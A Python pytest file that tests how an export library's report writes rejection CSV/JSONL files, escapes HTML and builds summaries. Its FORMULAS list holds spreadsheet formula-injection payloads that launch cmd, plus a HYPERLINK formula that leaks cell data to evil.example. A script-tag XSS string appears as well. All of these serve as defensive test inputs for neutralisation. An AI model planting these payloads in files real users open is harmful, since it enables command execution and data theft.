"""ExportReport: the invariant, JSON, rejection files, HTML escaping, summaries, DataFrame."""

from __future__ import annotations

import csv
import datetime as dt
import json
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autopilot_segments import REJECTION_REASONS, ConfigurationError, ExportReport, Rejection
from autopilot_segments._destinations.autopilot.client import AutopilotClient
from autopilot_segments._export import Exporter
from autopilot_segments._mapping.mapping import FieldMapping
from autopilot_segments._rejection_log import RejectionLog
from autopilot_segments.sandbox import Sandbox

T0 = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.timezone.utc)
NASTY = '<script>alert("x")</script> & Co'


def rejection(
    row: int, reason: Any = "invalid_email", email: str | None = "x@y", message: str = "bad"
) -> Rejection:
    return Rejection(row=row, email=email, reason=reason, message=message)


def report(**overrides: Any) -> ExportReport:
    values: dict[str, Any] = {
        "segment": "VIP",
        "list_id": "contactlist_1",
        "total_rows": 5,
        "exported": 3,
        "rejected": [rejection(2), rejection(4, "failed", message="503: down")],
        "api_calls": 4,
        "started_at": T0,
        "finished_at": T0 + dt.timedelta(seconds=2),
        "duration": 2.0,
    }
    values.update(overrides)
    return ExportReport(**values)


def test_the_invariant_is_checked() -> None:
    with pytest.raises(ValueError, match="accounting"):
        report(total_rows=6)
    with pytest.raises(ValueError, match="accounting"):
        report(exported=2, unchanged=2, total_rows=5, rejected=[rejection(1), rejection(2)])


def test_timestamps_must_be_utc() -> None:
    with pytest.raises(ValueError, match="UTC"):
        report(started_at=dt.datetime(2026, 1, 1))


def test_counts_and_throughput() -> None:
    r = report()
    assert r.counts["exported"] == 3
    assert r.counts["invalid_email"] == 1
    assert r.counts["failed"] == 1
    assert r.counts["over_limit"] == 0
    assert r.throughput == pytest.approx(2.5)
    assert not r.ok


def test_to_dict_is_json_ready_and_round_trips() -> None:
    r = report(segment=NASTY)
    data = json.loads(json.dumps(r.to_dict()))
    assert data["segment"] == NASTY
    assert data["total_rows"] == data["exported"] + data["unchanged"] + len(data["rejected"])
    assert data["rejected"][1] == {
        "row": 4,
        "email": "x@y",
        "reason": "failed",
        "message": "503: down",
        "field": None,
    }
    assert dt.datetime.fromisoformat(data["started_at"]) == T0
    assert data["counts"]["failed"] == 1


def test_write_rejections_csv(tmp_path: Path) -> None:
    r = report(rejected=[rejection(2, message='comma, "quote"'), rejection(4, email=None)])
    path = r.write_rejections(tmp_path / "rejected.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        read = list(csv.DictReader(fh))
    assert [row["row"] for row in read] == ["2", "4"]
    assert read[0]["message"] == 'comma, "quote"'
    assert read[1]["email"] == ""


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    " \t @SUM(A1)",
    "\uff1dcmd|' /C calc'!A0",  # FULLWIDTH EQUALS SIGN, evaluated by some spreadsheets
]


def test_write_rejections_csv_neutralises_formulas_in_every_cell(tmp_path: Path) -> None:
    rejected = [
        Rejection(row=i + 1, email=value, reason="invalid_email", message=value, field=value)
        for i, value in enumerate(FORMULAS)
    ]
    r = report(total_rows=len(FORMULAS), exported=0, rejected=rejected)
    path = r.write_rejections(tmp_path / "rejected.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert header == ["row", "email", "reason", "message", "field"]
    for value, row in zip(FORMULAS, rows, strict=True):
        # The OWASP rule: a leading single quote makes the spreadsheet show the text, not evaluate it.
        assert row[1:] == ["'" + value, "invalid_email", "'" + value, "'" + value]
    # Cells a spreadsheet would not evaluate are written as they are.
    plain = report(rejected=[rejection(2, email="a-b@x.example", message="it's 'fine' = ok"), rejection(4)])
    path = plain.write_rejections(tmp_path / "plain.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        assert [row[1:4] for row in csv.reader(fh)][1] == [
            "a-b@x.example",
            "invalid_email",
            "it's 'fine' = ok",
        ]


def test_write_rejections_csv_neutralises_a_formula_column_name(tmp_path: Path) -> None:
    # Column names come from the source (a rejection's `field`) and the header is neutralised too.
    r = report(
        rejected=[
            Rejection(row=2, email="x@y", reason="invalid_value", message="bad", field="=1+1"),
            rejection(4),
        ]
    )
    path = r.write_rejections(tmp_path / "rejected.csv")
    text = path.read_text(encoding="utf-8")
    assert ",'=1+1\n" in text
    assert "\n=" not in text
    assert ",=" not in text


@given(
    st.lists(st.text(alphabet=st.sampled_from(" \t\r\n=+-@'a1\uff1d,\""), max_size=6), min_size=1, max_size=5)
)
def test_csv_cells_never_start_a_formula_and_lose_nothing(values: list[str]) -> None:
    rejected = [
        Rejection(row=i + 1, email=v, reason="invalid_value", message=v, field=v or None)
        for i, v in enumerate(values)
    ]
    r = report(total_rows=len(values), exported=0, rejected=rejected)
    with tempfile.TemporaryDirectory() as tmp:
        path = r.write_rejections(Path(tmp) / "r.csv")
        with path.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))[1:]
    for value, row in zip(values, rows, strict=True):
        for cell in (row[1], row[3]):
            assert cell.lstrip(" \t\r\n")[:1] not in set("=+-@\uff1d") or cell.startswith("'")
            assert cell[:1] not in ("\t", "\r")
            assert cell in (value, "'" + value)
            # Text that starts with a quote already is left alone only when it is harmless anyway.
            assert (cell == "'" + value) == (
                value.lstrip(" \t\r\n")[:1] in set("=+-@\uff1d\t\r") or value[:1] in ("\t", "\r")
            )


def test_write_rejections_jsonl_keeps_values_verbatim(tmp_path: Path) -> None:
    rejected = [
        Rejection(row=i + 1, email=value, reason="invalid_email", message=value, field=value)
        for i, value in enumerate(FORMULAS)
    ]
    r = report(total_rows=len(FORMULAS), exported=0, rejected=rejected)
    path = r.write_rejections(tmp_path / "rejected.jsonl")
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [line["email"] for line in lines] == FORMULAS
    assert [line["field"] for line in lines] == FORMULAS


def test_write_rejections_jsonl(tmp_path: Path) -> None:
    r = report()
    path = r.write_rejections(tmp_path / "rejected.jsonl")
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines == [x.to_dict() for x in r.rejected]


def test_write_rejections_refuses_an_unknown_format(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match=r"\.csv"):
        report().write_rejections(tmp_path / "rejected.xlsx")


def test_html_escapes_everything() -> None:
    r = report(
        segment=NASTY,
        list_note=NASTY,
        rejected=[rejection(2, email="<b>@x.y", message=NASTY), rejection(4)],
    )
    page = r._repr_html_()
    assert "<script>" not in page
    assert "&lt;script&gt;" in page
    assert "&lt;b&gt;@x.y" in page
    assert page.count("<table>") == 2


def test_html_shows_only_a_preview_of_many_rejections() -> None:
    many = [rejection(i) for i in range(1, 31)]
    page = report(total_rows=30, exported=0, rejected=many)._repr_html_()
    assert "20 more" in page


def test_summary_mentions_counts_and_reasons() -> None:
    text = report().summary()
    assert "5 rows: 3 exported" in text
    assert "invalid_email 1" in text
    assert "failed 1" in text
    assert "4 API calls" in text
    incomplete = report(complete=False, stopped_by="a batch failed").summary()
    assert "INCOMPLETE: a batch failed" in incomplete


def test_rejections_frame() -> None:
    frame = report().rejections_frame()
    assert list(frame.columns) == ["row", "email", "reason", "message", "field"]
    assert list(frame["row"]) == [2, 4]


def test_rejections_frame_without_pandas(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ConfigurationError, match=r"autopilot-segments\[pandas\]"):
        report().rejections_frame()


def test_a_real_report_keeps_its_promises(tmp_path: Path) -> None:
    source = [{"Email": f"p{i}@example.com"} for i in range(12)] + [{"Email": NASTY}, {"Email": ""}]
    with Sandbox() as sb:
        client = AutopilotClient(sb.api_key, base_url=sb.url, requests_per_second=10_000.0)
        r = Exporter(client, FieldMapping(email="Email")).export(source, segment=NASTY)
        key = sb.api_key
    assert r.total_rows == r.exported + r.unchanged + len(r.rejected) == 14
    assert r.started_at.tzinfo is dt.timezone.utc
    assert r.finished_at >= r.started_at
    assert r.api_calls >= 2
    serialised = json.dumps(r.to_dict()) + r.summary() + repr(r) + r._repr_html_()
    assert key not in serialised
    assert "<script>" not in r._repr_html_()
    r.write_rejections(tmp_path / "r.csv")
    assert key not in (tmp_path / "r.csv").read_text(encoding="utf-8")


rejections = st.lists(
    st.builds(
        Rejection,
        row=st.integers(1, 2**40),
        email=st.one_of(st.none(), st.text(max_size=30)),
        reason=st.sampled_from(REJECTION_REASONS),
        message=st.one_of(st.just("same message"), st.text(max_size=40)),
        field=st.one_of(st.none(), st.sampled_from(["Email", "points", "élan"])),
    ),
    max_size=40,
)


@given(rejections)
def test_rejection_log_reads_back_exactly_what_was_appended(items: list[Rejection]) -> None:
    log = RejectionLog(items)
    assert list(log) == items
    assert len(log) == len(items)
    assert log == items
    assert [log[i] for i in range(-len(items), len(items))] == items + items
    assert log[1:3] == items[1:3]
    assert log.reason_counts() == {r: sum(1 for x in items if x.reason == r) for r in REJECTION_REASONS}


def test_a_report_s_rejections_cannot_change() -> None:
    r = report()
    with pytest.raises(TypeError):
        r.rejected.append(rejection(5))
    with pytest.raises(IndexError):
        r.rejected[2]


def test_summary_uses_singular_forms_for_one() -> None:
    one = report(
        total_rows=1,
        exported=0,
        rejected=[rejection(1)],
        api_calls=1,
        retries=1,
        removed=1,
        removal_failed=1,
    )
    text = one.summary()
    assert "1 row: 0 exported, 0 unchanged, 1 rejected" in text
    assert "1 API call (1 retry, 0 rate-limited)" in text
    assert "1 leaver removed from the list; 1 removal failed" in text
    for wrong in ("1 rows", "1 API calls", "1 retries", "1 leavers", "1 removals"):
        assert wrong not in text
    many = report(api_calls=2, retries=2).summary()
    assert "5 rows: 3 exported" in many
    assert "2 API calls (2 retries," in many


def test_summary_says_how_to_lift_the_profile_cap() -> None:
    capped = report(
        total_rows=4,
        exported=2,
        rejected=[rejection(3, "over_limit", message="beyond the cap"), rejection(4, "over_limit")],
    )
    text = capped.summary()
    assert "2 rows were over the profile cap" in text
    assert "max_profiles=" in text
    assert "--max-profiles N" in text
    assert "profile cap" not in report().summary()
